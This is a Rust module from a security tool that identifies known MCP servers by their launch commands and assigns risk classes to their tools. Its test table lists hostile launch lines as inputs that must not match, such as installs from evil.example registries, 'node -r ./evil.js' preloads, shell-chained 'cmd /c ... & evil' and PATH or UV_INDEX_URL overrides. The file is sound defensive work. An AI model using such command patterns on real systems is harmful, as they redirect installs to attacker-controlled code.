//! Known servers and the classes of their tools, as somebody read them: one file each under `catalogue/`, compiled in.
//!
//! A server is known by what was installed, a package or the words that start it; never by what it says of itself.

use std::sync::LazyLock;

use rustc_hash::FxHashMap;
use serde::Deserialize;

use crate::assessment::{Assessment, Confidence, DataFlags, Evidence, EvidencePlace, RiskClass};
use crate::classify::classify;
use crate::definition::ToolDefinition;
use crate::launch;
use crate::launch::command_line::{CommandLine, Operand, Origin, Registry, same_python};

/// One server of the catalogue.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct KnownServer {
    pub server: String,
    /// What it is for, in a sentence.
    pub about: String,
    /// What it is called in lists of servers, where that can be nobody else.
    pub names: Vec<String>,
    /// As npm, PyPI or its repository has it.
    pub packages: Vec<String>,
    /// Where its packages are; without a word of it, on npm or on PyPI.
    #[serde(default)]
    registry: Option<PackageRegistry>,
    /// Images for containers, without a tag.
    #[serde(default)]
    images: Vec<String>,
    /// The version that was read.
    pub version: String,
    /// How it is started; none for one that no registry of packages has.
    #[serde(default)]
    pub start: Option<KnownStart>,
    tools: FxHashMap<RiskClass, Vec<String>>,
    /// Tools whose definition, as it was read, sounds graver by itself than they are: as which. Only one that is graver still counts.
    #[serde(default)]
    sounds: FxHashMap<RiskClass, Vec<String>>,
    reads_private_data: Vec<String>,
    returns_text_of_others: Vec<String>,
    sends_outside: Vec<String>,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "lowercase")]
enum PackageRegistry {
    Npm,
    PyPi,
}

/// How a known server is started, from its first package.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct KnownStart {
    pub runner: Runner,
    #[serde(default)]
    arguments: Vec<String>,
    /// Variables that it wants: their values are the person's.
    #[serde(default)]
    pub variables: Vec<String>,
    /// What has to be added to the command, in words.
    #[serde(default)]
    pub asks: Vec<String>,
}

/// Who fetches a package and runs it.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Runner {
    /// Of npm.
    Npx,
    /// Of PyPI.
    Uvx,
}

const FILES: &[&str] = include!(concat!(env!("OUT_DIR"), "/catalogue.rs"));

static SERVERS: LazyLock<Vec<KnownServer>> =
    LazyLock::new(|| FILES.iter().filter_map(|file| serde_json::from_str(file).ok()).collect());

/// All servers of the catalogue.
pub fn known_servers() -> &'static [KnownServer] {
    &SERVERS
}

impl KnownServer {
    /// By its package or its own name, to the letter.
    pub fn by_name(name: &str) -> Option<&'static Self> {
        SERVERS.iter().find(|known| known.names.iter().chain(&known.packages).any(|own| own == name))
    }

    /// By the words that start it: `npx -y @playwright/mcp@latest`, `uvx mcp-server-git`, `node …/@playwright/mcp/cli.js`. Only the
    /// package that is run counts; a command that says where else its code comes from is nobody's.
    pub fn by_command(command: &[&str]) -> Option<&'static Self> {
        let line = CommandLine::read(command);
        let has_signs = |word: &&str| word.contains(['&', '|', '<', '>', '^', '%']);
        if line.is_for_cmd && line.words.iter().any(has_signs) {
            return None;
        }
        if is_prepared(command, &line) {
            return None;
        }
        let operand = line.operand().filter(|operand| !operand.is_altered && is_plain(&line, operand))?;
        SERVERS.iter().find(|known| known.is_run_by(&operand))
    }

    fn is_run_by(&self, operand: &Operand<'_>) -> bool {
        let is_in = |registry| self.registry.is_none_or(|own| own == registry);
        let mut packages = self.packages.iter();
        match (operand.origin, operand.registry) {
            (Origin::Program, _) => self.names.iter().chain(packages).any(|own| *own == operand.name),
            (_, Registry::Image) => self.images.iter().any(|own| *own == operand.name),
            (_, Registry::Npm) => is_in(PackageRegistry::Npm) && packages.any(|own| *own == operand.name),
            (_, Registry::PyPi) => {
                is_in(PackageRegistry::PyPi)
                    && packages.any(|own| same_python(own) == same_python(&operand.name))
            }
        }
    }

    pub fn class(&self, tool: &str) -> Option<RiskClass> {
        class_with(&self.tools, tool)
    }

    /// The words that start the version that was read.
    pub fn command(&self) -> Option<Vec<String>> {
        let start = self.start.as_ref()?;
        let package = format!("{}@{}", self.packages.first()?, self.version);
        let runner: &[&str] = match start.runner {
            Runner::Npx => &["npx", "-y"],
            Runner::Uvx => &["uvx"],
        };
        let words = runner.iter().map(|word| (*word).to_owned());
        Some(words.chain([package]).chain(start.arguments.iter().cloned()).collect())
    }

    /// Every tool that it has, in the order of the names.
    pub fn tool_names(&self) -> Vec<&str> {
        let mut names: Vec<&str> = self.tools.values().flatten().map(String::as_str).collect();
        names.sort_unstable();
        names
    }

    pub fn tool_count(&self) -> usize {
        self.tools.values().map(Vec::len).sum()
    }

    /// What is told of one of its tools: what was read, with what the definition itself says beside it. `None` if the catalogue
    /// does not have the tool. What was read wins, unless the definition is surely graver than what was read: then that counts, and is said.
    pub fn assess(&self, tool: &ToolDefinition<'_>) -> Option<Assessment> {
        let class = self.class(tool.name)?;
        let mut said = classify(tool);
        let is_in = |tools: &[String]| tools.iter().any(|known| known == tool.name);
        let read = Evidence {
            place: EvidencePlace::Catalogue,
            quote: format!("{} {}", self.server, self.version),
            suggests: class,
        };
        said.evidence.push(read);
        let by_itself = said.flags;
        said.flags = DataFlags {
            reads_private_data: is_in(&self.reads_private_data),
            returns_text_of_others: is_in(&self.returns_text_of_others),
            sends_outside: is_in(&self.sends_outside),
        };
        // A definition that says more than the one that was read is another one. What nobody says is none.
        let sounds = class_with(&self.sounds, tool.name);
        if said.class > sounds.map_or(class, |sounds| sounds.max(class)) && said.confidence != Confidence::Low
        {
            said.flags.reads_private_data |= by_itself.reads_private_data;
            said.flags.returns_text_of_others |= by_itself.returns_text_of_others;
            said.flags.sends_outside |= by_itself.sends_outside;
            said.uncertain.push(format!(
                "The catalogue has it as {} ({}, {}); its definition is graver, and counts.",
                class.name(),
                self.server,
                self.version
            ));
            return Some(said);
        }
        said.reason =
            format!("Known from the catalogue ({}, {}) as {}.", self.server, self.version, class.name());
        said.class = class;
        said.severity = class.severity();
        said.confidence = Confidence::High;
        Some(said)
    }
}

fn class_with(classes: &FxHashMap<RiskClass, Vec<String>>, tool: &str) -> Option<RiskClass> {
    classes.iter().find(|(_, tools)| tools.iter().any(|known| known == tool)).map(|(class, _)| *class)
}

/// Options of runners that say nothing of which code is run.
const ALONE: [&str; 29] = [
    "-y",
    "--yes",
    "-q",
    "--quiet",
    "-s",
    "--silent",
    "--prefer-offline",
    "--prefer-online",
    "--offline",
    "--no-cache",
    "--isolated",
    "--refresh",
    "-i",
    "--interactive",
    "-t",
    "--tty",
    "-it",
    "-ti",
    "--rm",
    "--init",
    "--",
    "-m",
    "-B",
    "-I",
    "-E",
    "-u",
    "-A",
    "--allow-all",
    "--no-warnings",
];
/// The same with a value, in the next word or after a `=`. A package may be named by one; whether it is run, its reader has said.
const VALUED: [&str; 24] = [
    "-p",
    "--package",
    "--from",
    "--spec",
    "--python",
    "--cache",
    "--cache-dir",
    "--directory",
    "--project",
    "-w",
    "--workspace",
    "--loglevel",
    "--color",
    "-e",
    "--env",
    "-v",
    "--volume",
    "--mount",
    "--name",
    "--network",
    "--net",
    "-l",
    "--label",
    "--workdir",
];

/// Does something before the program decide which code it runs, or is the program anybody's?
fn is_prepared(command: &[&str], line: &CommandLine<'_>) -> bool {
    let splits = |word: &&str| word.starts_with("-S") || word.starts_with("--split-string");
    line.variables.iter().any(|(_, name, _)| decides_code(name))
        || command[..line.skipped].iter().any(splits)
        || line.words.first().is_some_and(|program| launch::is_world_writable(program))
}

/// Variables of a command line by which runners, loaders and interpreters are led elsewhere.
fn decides_code(name: &str) -> bool {
    let name = name.to_ascii_uppercase();
    name == "PATH"
        || [
            "NPM_CONFIG_",
            "UV_",
            "PIP_",
            "PIPX_",
            "NODE_",
            "PYTHON",
            "LD_",
            "DYLD_",
            "DENO_",
            "BUN_",
            "YARN_",
        ]
        .iter()
        .any(|prefix| name.starts_with(prefix))
}

/// An option that nobody here knows may take the next word for itself, so that what looks like the package is none.
fn is_plain(line: &CommandLine<'_>, operand: &Operand<'_>) -> bool {
    let mut words = line.words.iter().take(operand.at).skip(1);
    while let Some(word) = words.next() {
        if !word.starts_with('-') || ALONE.contains(word) {
            continue;
        }
        match word.split_once('=') {
            Some((name, _)) if VALUED.contains(&name) => {}
            None if VALUED.contains(word) => drop(words.next()),
            _ => return false,
        }
    }
    true
}

#[cfg(test)]
#[expect(clippy::unwrap_used, reason = "a failed step is a failed test")]
mod tests {
    use super::*;

    #[test]
    fn every_file_is_read_and_no_tool_has_two_classes() {
        assert_eq!(SERVERS.len(), FILES.len());
        for known in known_servers() {
            let mut tools: Vec<_> = known.tools.values().flatten().collect();
            let all = tools.len();
            tools.sort();
            tools.dedup();
            assert_eq!(tools.len(), all, "{}", known.server);
            for (sounds, tools) in &known.sounds {
                for tool in tools {
                    assert!(
                        known.class(tool).is_some_and(|class| class < *sounds),
                        "{} {tool}",
                        known.server
                    );
                }
            }
            for flagged in known
                .reads_private_data
                .iter()
                .chain(&known.returns_text_of_others)
                .chain(&known.sends_outside)
            {
                assert!(known.class(flagged).is_some(), "{} has no {flagged}", known.server);
            }
        }
    }

    #[test]
    fn what_the_catalogue_starts_is_the_server_that_it_describes() {
        for known in known_servers() {
            assert!(known.about.ends_with('.') && known.about.len() < 200, "{}", known.server);
            let Some(command) = known.command() else { continue };
            let words: Vec<&str> = command.iter().map(String::as_str).collect();
            let found = KnownServer::by_command(&words).unwrap();
            assert_eq!(found.server, known.server, "{words:?}");
            assert!(words.iter().any(|word| word.ends_with(&known.version)), "a version is named: {words:?}");
        }
        let started = known_servers().iter().filter(|known| known.start.is_some()).count();
        assert!(started > 20, "{started}");
    }

    #[test]
    fn the_codegen_servers_are_there_whole() {
        for (name, tools) in [
            ("runautomation-mcpserver", 91),
            ("mcp-playwright-stealth", 29),
            ("@executeautomation/playwright-mcp-server", 33),
        ] {
            let known = KnownServer::by_name(name).unwrap();
            assert_eq!(known.tool_count(), tools, "{name}");
            for (tool, class) in [
                ("start_codegen_session", RiskClass::Execute),
                ("end_codegen_session", RiskClass::Write),
                ("get_codegen_session", RiskClass::Read),
                ("clear_codegen_session", RiskClass::Destructive),
            ] {
                assert_eq!(known.class(tool), Some(class), "{name} {tool}");
            }
        }
    }

    /// The command, and which server it is.
    const COMMANDS: &[(&str, Option<&str>)] = &[
        ("npx -y @playwright/mcp@latest", Some("Playwright MCP")),
        ("npx -y @playwright/mcp@0.0.83 --headless", Some("Playwright MCP")),
        ("npx.cmd --yes --package=@playwright/mcp mcp", Some("Playwright MCP")),
        ("cmd /c npx -y @playwright/mcp", Some("Playwright MCP")),
        ("C:\\node\\npx.cmd @playwright/mcp", Some("Playwright MCP")),
        ("env DEBUG=1 npx -y @playwright/mcp", Some("Playwright MCP")),
        ("pnpm dlx @playwright/mcp", Some("Playwright MCP")),
        ("yarn dlx -q @playwright/mcp", Some("Playwright MCP")),
        ("bunx @playwright/mcp", Some("Playwright MCP")),
        ("bun x @playwright/mcp", Some("Playwright MCP")),
        ("npm exec -- @playwright/mcp", Some("Playwright MCP")),
        ("deno run -A npm:@playwright/mcp@0.0.83", Some("Playwright MCP")),
        ("npx pvinis/mcp-playwright-stealth", Some("Playwright stealth")),
        ("npx -y github:pvinis/mcp-playwright-stealth", Some("Playwright stealth")),
        ("node /opt/node_modules/@playwright/mcp/cli.js", Some("Playwright MCP")),
        ("node --no-warnings C:\\x\\node_modules\\@playwright\\mcp\\cli.js", Some("Playwright MCP")),
        ("/opt/node_modules/.bin/playwright-mcp", Some("Playwright MCP")),
        ("playwright-mcp --headless", Some("Playwright MCP")),
        ("uvx mcp-server-git==2026.10.19", Some("Reference: git")),
        ("uvx --python 3.12 mcp_server_git@latest", Some("Reference: git")),
        ("uvx --from mcp-server-git[x]>=1 mcp-server-git", Some("Reference: git")),
        ("uv tool run mcp-server-git", Some("Reference: git")),
        ("pipx run mcp-server-git==1.0", Some("Reference: git")),
        ("pipx run --spec mcp-server-git==1.0 mcp-server-git", Some("Reference: git")),
        ("python3.12 -u -m mcp_server_git --repository .", Some("Reference: git")),
        ("/usr/lib/python3/site-packages/mcp_server_git/server.py", Some("Reference: git")),
        ("mcp-server-git", Some("Reference: git")),
        ("docker run -i --rm -v /a:/b -e A=b mcp/git", Some("Reference: git")),
        ("podman run --rm docker.io/mcp/git:1.0@sha256:00", Some("Reference: git")),
        // The same words where they decide nothing, and packages of other people.
        ("npx @playwright/mcp-evil", None),
        ("npx evil-mcp-server-git", None),
        ("npx @evil/mcp-server-git", None),
        ("npx evil mcp-server-git", None),
        ("npx evil/mcp-server-git", None),
        ("npx -y evil @playwright/mcp", None),
        ("npx mcp-server-git", None),
        ("npx mcp-playwright-stealth@npm:evil", None),
        ("npx mcp-playwright-stealth@https://evil.example/a.tgz", None),
        ("npx --registry http://evil.example @playwright/mcp", None),
        ("npx -p @playwright/mcp -p evil mcp", None),
        ("npx -p @playwright/mcp evil", None),
        ("npx -c 'evil' @playwright/mcp", None),
        ("cmd /c npx @playwright/mcp & evil", None),
        ("uvx --from evil mcp-server-git", None),
        ("uvx --from git+https://evil.example mcp-server-git", None),
        ("uvx --from mcp-server-git evil", None),
        ("uvx --with evil mcp-server-git", None),
        ("uvx --index-url http://evil.example mcp-server-git", None),
        ("uvx evil mcp-server-git", None),
        ("uv run mcp-server-git", None),
        ("python -c x -m mcp_server_git", None),
        ("python evil.py mcp_server_git", None),
        ("node -r ./evil.js /opt/node_modules/@playwright/mcp/cli.js", None),
        ("node /opt/node_modules/@playwright/mcp/../../evil.js", None),
        ("node evil.js /opt/node_modules/@playwright/mcp/cli.js", None),
        ("/tmp/x/mcp-server-git", None),
        ("./mcp-server-git", None),
        ("sh -c mcp-server-git", None),
        ("mcp", None),
        ("docker run evil/git mcp/git", None),
        // What an option that is not known here may take for itself, and what is said before the program.
        ("docker run -id evil/x mcp/git", None),
        ("podman run --env-host evil/x mcp/git", None),
        ("npx --tag @playwright/mcp evil", None),
        ("uvx -P mcp-server-git evil", None),
        ("uvx --upgrade-package mcp-server-git evil", None),
        ("node --conditions /x/node_modules/@playwright/mcp/cli.js evil.js", None),
        ("python -mevil /x/site-packages/mcp_server_git/server.py", None),
        ("deno run --preload=./evil.ts npm:@playwright/mcp", None),
        ("env npm_config_registry=http://evil.example npx -y @playwright/mcp", None),
        ("env UV_INDEX_URL=http://evil.example uvx mcp-server-git", None),
        ("env PATH=/x npx @playwright/mcp", None),
        ("env -Snpx\u{a0}evil npx @playwright/mcp", None),
        ("/tmp/x/npx @playwright/mcp", None),
        ("docker run --entrypoint sh mcp/git", None),
        ("docker run evil.example/mcp/git", None),
        ("", None),
    ];

    #[test]
    fn a_server_is_known_by_the_package_that_is_run_and_by_no_other_word() {
        for (command, server) in COMMANDS {
            let words: Vec<&str> = command.split(' ').filter(|word| !word.is_empty()).collect();
            let found = KnownServer::by_command(&words).map(|known| known.server.as_str());
            assert_eq!(found, *server, "{command}");
        }
        assert!(KnownServer::by_name("Playwright").is_none());
    }

    #[test]
    fn a_definition_that_is_graver_than_the_catalogue_counts() {
        let known = KnownServer::by_name("mcp-server-git").unwrap();
        let tool = |description| ToolDefinition { name: "git_log", description, ..ToolDefinition::default() };
        assert_eq!(known.assess(&tool("Shows the commit logs")).unwrap().class, RiskClass::Read);
        let graver = known.assess(&tool("Deletes all commits. This cannot be undone.")).unwrap();
        assert_eq!(graver.class, RiskClass::Destructive);
        assert!(graver.uncertain.iter().any(|said| said.contains("catalogue has it as Read")));
    }
}
